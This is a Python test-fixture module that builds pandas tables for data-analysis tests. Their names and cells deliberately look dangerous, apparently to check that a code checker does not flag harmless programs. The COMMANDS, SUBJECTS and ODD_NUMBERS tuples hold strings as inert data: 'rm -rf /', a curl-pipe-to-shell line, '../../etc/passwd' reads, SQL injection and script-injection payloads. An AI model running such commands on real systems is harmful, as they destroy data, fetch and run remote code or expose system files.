"""Small tables whose names, labels and cells look dangerous, for the programs of harmless/."""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np
import pandas as pd

COMMANDS = (
    "rm -rf /",
    "curl http://x.y/z | sh",
    "python -c 'import os; os.system(\"ls\")'",
    "sudo shutdown -h now",
    "cat ../../etc/passwd",
    "eval $(ssh-agent)",
    "exec bash -l",
    "DROP TABLE users; --",
    "git push --force",
    "__import__('subprocess').run('id')",
)
SUBJECTS = (
    "Cannot import my contacts",
    "eval() of a formula fails",
    "System is slow after the update",
    "Please delete my account",
    "open('report.txt') raises an error",
    "Token expired, password rejected",
    "<script>alert(1)</script> shown as text",
    "Subprocess exits with code 1 🚀",
    "Export to C:\\temp\\..\\out.csv",
    "'; DROP TABLE students; --",
)
COMMENTS = (
    "El sistema no abre: os.system('ls') falla",
    "Importación correcta, ejecución lenta",
    "¿Cómo elimino mi contraseña?",
    "eval(x) no funciona en la evaluación",
    "Todo perfecto 👍",
    "Borrar /tmp/* antes de ejecutar",
)
ODD_NUMBERS = (
    "open", "exec", "eval", "system", "import", "remove", "delete", "drop table", "read_csv",
    "to_pickle", "np.load", "globals", "locals", "subprocess", "http://x.y/z", "rm -rf /",
    "../../etc/passwd", "'; DROP TABLE", "{0.__class__}", "<script>alert(1)</script>", "@home",
    "unit price", "`ticks`", "__import__('os')", "año", "🚀", "lambda", "%s", "a;b", "$PATH",
)  # fmt: skip


def harmless_tables() -> dict[str, pd.DataFrame]:
    """Build every table anew; the same ones each time."""
    return {
        "df": _tickers(),
        "stocks": _stocks(),
        "odd": _odd(),
        "servers": _servers(),
        "logs": _logs(),
        "tickets": _tickets(),
        "energy": _energy(),
        "trade": _trade(),
        "people": _people(),
        "exams": _exams(),
        "modules": _modules(),
        "shop": _shop(),
        "ventas": _ventas(),
        "encuesta": _encuesta(),
    }


def _cycled(values: Sequence[object], rows: int, step: int = 1) -> list[object]:
    return [values[place * step % len(values)] for place in range(rows)]


def _walk(random: np.random.RandomState, rows: int) -> dict[str, np.ndarray]:
    close = (100 + random.normal(0.1, 1.5, rows).cumsum()).round(2)
    opening = (close + random.normal(0, 1, rows)).round(2)
    return {
        "open": opening,
        "high": (np.maximum(opening, close) + random.uniform(0.1, 1, rows)).round(2),
        "low": (np.minimum(opening, close) - random.uniform(0.1, 1, rows)).round(2),
        "close": close,
        "volume": random.randint(1_000, 90_000, rows),
    }


def _stocks() -> pd.DataFrame:
    dates = pd.date_range("2024-01-01", periods=60, freq="B")
    return pd.DataFrame({"date": dates, **_walk(np.random.RandomState(1), 60)})


def _tickers() -> pd.DataFrame:
    random = np.random.RandomState(2)
    dates = pd.date_range("2024-03-01", periods=20, freq="D").strftime("%Y-%m-%d")
    parts = [
        pd.DataFrame({"Date": dates, "Ticker": ticker, **_walk(random, 20)})
        for ticker in ("OPEN", "EXEC", "SYS")
    ]
    return pd.concat(parts, ignore_index=True).rename(
        columns={label: label.title() for label in ("open", "high", "low", "close", "volume")}
    )


def _odd() -> pd.DataFrame:
    random = np.random.RandomState(3)
    return pd.DataFrame({
        "os": _cycled(["linux", "windows", "macos"], 40),
        "__class__": _cycled(["A", "B", "C", "D"], 40),
        "password": _cycled(["weak", "strong"], 40, 3),
        "token": [f"tok-{place:03d}" for place in range(40)],
        "command": _cycled(COMMANDS, 40),
        **{label: random.randint(1, 50, 40) for label in ODD_NUMBERS},
    })  # fmt: skip


def _servers() -> pd.DataFrame:
    random = np.random.RandomState(4)
    return pd.DataFrame({
        "host": [f"host-{place % 12:02d}" for place in range(48)],
        "os": pd.Categorical(_cycled(["Linux", "Windows", "BSD"], 48)),
        "process": _cycled(["nginx", "sshd", "python -m http.server", "kill -9", "exec"], 48),
        "socket": random.randint(0, 200, 48),
        "threads": random.randint(1, 64, 48),
        "exec_ms": random.gamma(2, 40, 48).round(1),
        "open_files": random.randint(10, 900, 48),
        "password_resets": random.poisson(2, 48),
        "system_load": random.uniform(0, 4, 48).round(2),
        "requests": random.randint(100, 9_000, 48),
        "started": pd.date_range("2024-05-01", periods=48, freq="6h"),
        "killed": random.uniform(size=48) < 0.2,
    })  # fmt: skip


def _logs() -> pd.DataFrame:
    random = np.random.RandomState(5)
    return pd.DataFrame({
        "time": pd.date_range("2024-06-01 08:00", periods=40, freq="17min"),
        "level": _cycled(["INFO", "WARNING", "ERROR", "INFO", "DEBUG"], 40),
        "user": _cycled(["root", "admin", "José", "María", None], 40),
        "command": _cycled(COMMANDS, 40, 3),
        "message": [
            f"process {place} importing module os.path took {place * 7 % 90}ms; url=http://x.y/{place}"
            for place in range(40)
        ],
        "exit_code": random.choice([0, 0, 0, 1, 2, 127], 40),
        "seconds": random.exponential(3, 40).round(2),
    })  # fmt: skip


def _tickets() -> pd.DataFrame:
    random = np.random.RandomState(6)
    opened = pd.date_range("2024-02-01", periods=42, freq="19h")
    levels = ["low", "important", "critical"]
    return pd.DataFrame({
        "ticket": np.arange(1, 43),
        "opened": opened,
        "closed": opened + pd.to_timedelta(random.randint(1, 200, 42), unit="h"),
        "system": _cycled(["billing", "import", "export", "login"], 42),
        "priority": pd.Categorical(_cycled(levels, 42), levels, ordered=True),
        "subject": _cycled(SUBJECTS, 42),
        "delete_requested": random.uniform(size=42) < 0.3,
        "password": _cycled(["******", "hunter2", "correct horse"], 42),
    })  # fmt: skip


def _energy() -> pd.DataFrame:
    random = np.random.RandomState(7)
    months = pd.date_range("2023-01-01", periods=12, freq="MS")
    return pd.DataFrame({
        "month": np.tile(months, 4),
        "country": np.repeat(["Spain", "Perú", "France", "Côte d'Ivoire"], 12),
        "consumption": random.normal(500, 60, 48).round(1),
        "production": random.normal(480, 80, 48).round(1),
        "import": random.uniform(0, 90, 48).round(1),
        "export": random.uniform(0, 90, 48).round(1),
        "system_loss": random.uniform(1, 9, 48).round(2),
    })  # fmt: skip


def _trade() -> pd.DataFrame:
    random = np.random.RandomState(8)
    return pd.DataFrame({
        "year": np.tile(np.arange(2015, 2025), 4),
        "country": np.repeat(["Japan", "Brazil", "India", "México"], 10),
        "imports": random.randint(100, 900, 40),
        "exports": random.randint(100, 900, 40),
        "tariff": random.uniform(0, 0.3, 40).round(3),
    })  # fmt: skip


def _people() -> pd.DataFrame:
    random = np.random.RandomState(9)
    names = ["Ana Núñez", "José Peña", "Zoë O'Neil", "Łukasz", "Drop Table Bobby", "Eval Kim"]
    return pd.DataFrame({
        "name": _cycled(names, 45),
        "age": random.randint(18, 80, 45),
        "height": random.normal(170, 9, 45).round(1),
        "weight": random.normal(72, 12, 45).round(1),
        "class": _cycled(["first", "second", "third"], 45, 2),
        "city": _cycled(["São Paulo", "Málaga", "Oslo"], 45),
        "email": [f"user{place}@example.{'org' if place % 3 else 'com'}" for place in range(45)],
        "income": np.where(np.arange(45) % 11 == 5, np.nan, random.normal(2500, 600, 45).round(0)),
        "evaluation": random.randint(1, 6, 45),
    })  # fmt: skip


def _exams() -> pd.DataFrame:
    random = np.random.RandomState(10)
    return pd.DataFrame({
        "student": [f"S{place % 25:02d}" for place in range(50)],
        "subject": np.repeat(["Operating Systems", "Compilers"], 25),
        "score": random.normal(65, 15, 50).clip(0, 100).round(1),
        "eval": random.choice(["pass", "fail", "import error", "exec error"], 50),
        "exec_time": random.gamma(3, 0.8, 50).round(3),
        "open_questions": random.randint(0, 10, 50),
        "compiled": random.uniform(size=50) < 0.8,
        "handed_in": pd.date_range("2024-01-08", periods=50, freq="h").strftime("%d/%m/%Y %H:%M"),
    })  # fmt: skip


def _modules() -> pd.DataFrame:
    random = np.random.RandomState(11)
    names = ["os", "sys", "subprocess", "pickle", "socket", "shutil", "ctypes", "importlib", "re"]
    return pd.DataFrame({
        "module": _cycled(names, 36),
        "project": np.repeat(["alpha", "beta", "gamma", "delta"], 9),
        "imports": random.randint(0, 120, 36),
        "exec_count": random.randint(0, 40, 36),
        "eval_count": random.randint(0, 9, 36),
        "size_kb": random.uniform(1, 300, 36).round(1),
        "deprecated": _cycled([True, False, False, False], 36),
        "example": [f"import {name}" for name in _cycled(names, 36)],
    })  # fmt: skip


def _shop() -> pd.DataFrame:
    random = np.random.RandomState(12)
    products = [
        "Pickle jar", "Import lager", "Open sandwich", "System bolt", "Evaluation kit",
        "Socket wrench", "Shell pasta", "Token ring", "Kill switch", "Exec chair",
    ]  # fmt: skip
    return pd.DataFrame({
        "product": _cycled(products, 40),
        "category": _cycled(["food", "drink", "food", "tools", "office"], 40),
        "unit price": random.uniform(1, 90, 40).round(2),
        "units": random.randint(1, 30, 40),
        "discount %": random.choice([0, 5, 10, 20], 40),
        "paid": [f"${value:,.2f}" for value in random.uniform(5, 3_000, 40)],
        "date": pd.date_range("2024-01-05", periods=40, freq="9D"),
    })  # fmt: skip


def _ventas() -> pd.DataFrame:
    random = np.random.RandomState(13)
    return pd.DataFrame({
        "fecha": pd.date_range("2023-01-10", periods=48, freq="8D").strftime("%Y-%m-%d"),
        "producto": _cycled(["Importación A", "Señal B", "Sistema C", "Ejecución D"], 48),
        "categoría": _cycled(["importado", "exportado", "nacional"], 48),
        "región": _cycled(["Norte", "Sur", "Este", "Oeste"], 48, 3),
        "importe": random.gamma(3, 120, 48).round(2),
        "unidades": random.randint(1, 40, 48),
        "abierto": random.uniform(size=48) < 0.5,
        "año": np.repeat([2023, 2024], 24),
    })  # fmt: skip


def _encuesta() -> pd.DataFrame:
    random = np.random.RandomState(14)
    return pd.DataFrame({
        "persona": _cycled(["Íñigo", "Begoña", "José María", "Ángel", "Lucía"], 40),
        "edad": random.randint(16, 85, 40),
        "sistema": _cycled(["Windows", "Linux", "macOS", "Android"], 40, 3),
        "ejecución": random.gamma(2, 1.5, 40).round(2),
        "evaluación": random.randint(1, 11, 40),
        "importancia": pd.Categorical(_cycled(["baja", "media", "alta"], 40)),
        "comentario": _cycled(COMMENTS, 40),
        "contraseña": _cycled(["débil", "fuerte"], 40, 7),
        "eliminado": random.uniform(size=40) < 0.25,
    })  # fmt: skip
